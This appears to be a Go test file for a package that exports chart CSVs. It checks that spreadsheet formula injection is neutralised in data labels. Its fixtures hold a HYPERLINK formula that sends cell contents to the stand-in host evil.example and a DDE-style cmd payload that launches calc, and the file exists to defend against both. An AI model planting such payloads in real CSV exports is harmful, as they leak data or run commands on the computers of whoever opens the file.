package book

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
)

// TestChartCSVNeutralised: labels from data that a spreadsheet would take
// as formulas reach the chart CSVs (fig/**/*.csv and the chart set) only
// with a leading apostrophe, as in the exports; numbers, negative ones
// included, stay numbers. SYNTHETIC labels on synthInput.
func TestChartCSVNeutralised(t *testing.T) {
	const (
		evilRegion   = `=HYPERLINK("http://evil.example/?x="&A1,"klikk")`
		evilCategory = `+cmd|' /C calc'!A0`
	)
	in := synthInput()
	for i := range in.Rows {
		r := &in.Rows[i]
		if r.Region == "4001" {
			r.RegionLabel = evilRegion
		}
		if r.Category == "C" {
			r.CategoryLabel = evilCategory
		}
	}
	// wantCategory: the book draws the by-industry indicator (the chart set
	// does not); wantNegatives: the book's gap charts have negative gaps
	// (Porsgrunn is below the nation in every period).
	check := func(t *testing.T, files map[string][]byte, wantCategory, wantNegatives bool) {
		t.Helper()
		n, seenRegion, seenCategory, negatives := 0, false, false, 0
		for name, data := range files {
			if !strings.HasSuffix(name, ".csv") {
				continue
			}
			n++
			recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for ri, rec := range recs {
				for ci, f := range rec {
					switch {
					case f == "'"+evilRegion:
						seenRegion = true
					case f == "'"+evilCategory:
						seenCategory = true
					case plainNumber(f):
						if strings.HasPrefix(f, "-") {
							negatives++
						}
					case f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])):
						t.Errorf("%s row %d column %d = %q: a formula reaches the CSV", name, ri+1, ci+1, f)
					}
				}
			}
		}
		if n == 0 || !seenRegion {
			t.Errorf("%d CSV files; neutralised region label seen: %v", n, seenRegion)
		}
		if wantCategory && !seenCategory {
			t.Errorf("neutralised category label not seen in any CSV")
		}
		if wantNegatives && negatives == 0 {
			t.Errorf("no negative number left in any CSV: numbers must not be neutralised")
		}
	}
	t.Run("book", func(t *testing.T) {
		files := build(t, in)
		check(t, files, true, true)
	})
	t.Run("charts", func(t *testing.T) {
		var m memWriter
		if _, err := Charts(context.Background(), in, Options{Workers: 2}, m.write); err != nil {
			t.Fatal(err)
		}
		check(t, m.files, false, false)
	})
}

func TestPlainNumber(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"31.5", true}, {"-4.2", true}, {"1e-05", true}, {"+1", true}, {"0", true},
		{"", false}, {"-", false}, {"-Inf", false}, {"NaN", false}, {"0x1p-2", false},
		{"-1+cmd|x", false}, {"=1+1", false}, {"1_000", false}, {"@SUM(A1)", false},
	} {
		if got := plainNumber(tc.in); got != tc.want {
			t.Errorf("plainNumber(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}
